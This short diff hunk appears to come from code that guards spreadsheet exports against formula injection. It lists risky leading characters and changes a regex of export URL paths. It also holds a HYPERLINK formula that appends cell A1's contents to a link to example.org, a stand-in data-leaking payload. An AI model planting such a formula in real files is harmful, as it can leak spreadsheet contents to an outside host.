@@ -36,7 +36,7 @@ STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
 FORMULA = '=HYPERLINK("//example.org/"&A1,"看")'
 NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
 FILES = re.compile(r"csv|/table/$|^d/import/.*/(copy|template|list)/$")
-SENT = re.compile(r"^/d/(?:shift/)?list\.|^/admin/log/table/")
+SENT = re.compile(r"^/d/(?:shift/|act/)?list\.|^/duty/|^/admin/log/table/")
 """What is asked for by a button and made by a job."""
 TABS = "hand all parked calls tell messages late came up".split()
 BY = {"admin/log/table/": "auditor", "d/import/": "clerk"}
